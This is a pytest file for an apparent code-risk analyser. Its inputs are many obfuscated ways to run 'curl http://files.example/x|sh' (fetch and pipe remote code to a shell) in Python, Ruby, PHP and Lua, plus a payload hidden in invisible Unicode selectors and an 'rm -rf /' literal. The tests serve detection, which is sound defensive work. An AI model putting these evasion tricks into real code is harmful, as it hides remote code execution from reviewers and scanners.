"""What a text names without calling it counts, less surely; what may run its literals has them read."""

from __future__ import annotations

import pytest

from flycatcher.core.payload.model import MENTIONED

from .helpers import analysis, capabilities, layers, risk

COMMAND = "curl http://files.example/x|sh"


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("python", f"import os;print(sorted(['{COMMAND}'],key=os.system))"),
        ("python", f"import os;setattr(os,'getcwd',os.system);os.getcwd('{COMMAND}')"),
        ("python", f"x:__import__('os').system('{COMMAND}')"),
        ("python", f"def f(x:__import__('os').system('{COMMAND}')):0"),
        ("python", f"@lambda f:__import__('os').system('{COMMAND}')\ndef f():0"),
        ("python", f'print(f\'{{1:{{__import__("os").system("{COMMAND}")}}}}\')'),
        ("python", f"import random;random._os.system('{COMMAND}')"),
        ("python", f"import pydoc;pydoc.pipepager('x','{COMMAND}')"),
        ("python", f"import json,os;json.loads('{{}}',object_hook=lambda d:os.system('{COMMAND}'))"),
        ("python", f"import os\nclass K:\n def __getattr__(s,n):return os.system\nK().x('{COMMAND}')"),
        ("ruby", f"alias :puts :system;puts '{COMMAND}'"),
        ("ruby", f'open("|{COMMAND}")'),
        ("ruby", f'->(a=system("{COMMAND}")){{}}.()'),
        ("ruby", f'p :"#{{system("{COMMAND}")}}"'),
        ("ruby", f"Kernel.instance_method(:system).bind(self).call('{COMMAND}')"),
        ("php", f"namespace A;use function system as strlen;echo strlen('{COMMAND}');"),
        ("php", f"parse_str('f=system',$o);$o['f']('{COMMAND}');"),
        ("php", f"const F='system';(F)('{COMMAND}');"),
        ("php", f"class K{{static function __callStatic($n,$a){{system($a[0]);}}}}K::x('{COMMAND}');"),
        (
            "php",
            f"file_put_contents('z.php','<?php (strrev(\\'metsys\\'))(hex2bin(\\'{COMMAND.encode().hex()}\\'));');include 'z.php';",
        ),
        ("lua", f"local t=setmetatable({{}},{{__index=os}}) t.execute('{COMMAND}')"),
        ("lua", f"coroutine.wrap(os.execute)('{COMMAND}')"),
    ],
)
def test_a_detour_scores_what_the_plain_call_scores(language: str, text: str) -> None:
    plain = {"python": "__import__('os').system('%s')", "lua": "os.execute('%s')"}.get(language, "system('%s');")
    assert {"process.spawn", "network.pipe-to-interpreter"} <= capabilities(text, language)
    assert risk(text, language).score >= risk(plain % COMMAND, language).score


@pytest.mark.parametrize(
    ("text", "capability"),
    [
        ("import os\ntable = {'a': os.system}", "process.spawn"),
        ("from os import popen", "process.spawn"),
        ("import os\ndef f(g=os.execv): pass", "process.spawn"),
        ("run = exec", "eval.dynamic"),
        ("import os\ndelete = os.remove", "file.delete"),
    ],
)
def test_a_mention_yields_the_capability_of_a_call_less_surely(text: str, capability: str) -> None:
    assert capability in capabilities(text)
    assert MENTIONED in analysis(text).notes
    assert risk(text).confidence == 0.8


def test_a_plain_call_is_sure() -> None:
    assert risk("import os; os.system('id')").confidence == 1.0
    assert MENTIONED not in analysis("from os import system; system('id')").notes


@pytest.mark.parametrize(
    "text",
    [
        f"print('{COMMAND}')",
        f"x = '{COMMAND}'",
        f"import subprocess; subprocess.run(['git', 'commit', '-m', '{COMMAND}'])",
        "import os; os.system('ls'); print('rm -rf /')",
    ],
)
def test_a_literal_that_nothing_unknown_can_run_stays_data(text: str) -> None:
    assert not any(made == ("literal",) for _language, made, _text in layers(text))


def test_a_literal_that_reads_as_code_of_its_own_language_is_read_so() -> None:
    text = 'import typing;typing.ForwardRef(\'__import__("os").system("curl http://files.example/x|sh")\')._evaluate({},{},frozenset())'
    assert ("python", ("literal",), '__import__("os").system("curl http://files.example/x|sh")') in layers(text)


def test_a_loop_that_nothing_ends_does_not_use_the_analysis_up() -> None:
    assert "file.write" in capabilities("while [exec(\"open('a','w').close()\")]:break")
    assert analysis("while [1]:\n print(1)").parse == "parsed"


SELECTORS = "".join(
    chr(0xFE00 + byte) if byte < 16 else chr(0xE0100 + byte - 16) for byte in b"require('child_process').execSync('id')"
)


def test_text_in_invisible_letters_is_decoded_and_high() -> None:
    text = f"eval(decode(`{SELECTORS}`))"
    assert ("javascript", ("invisible letters",), "require('child_process').execSync('id')") in layers(
        text, "javascript"
    )
    assert "evasion.invisible-letters" in capabilities(text, "javascript")
    assert risk(text, "javascript").level in ("high", "critical")


@pytest.mark.parametrize(
    "text",
    [
        "print('⚠️ ❤️')",
        "print('葛\U000e0100')",
        "print('می‌خواهم')",
        "print('🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f')",
    ],
)
def test_letters_used_as_they_are_meant_hide_nothing(text: str) -> None:
    assert "evasion.invisible-letters" not in capabilities(text)
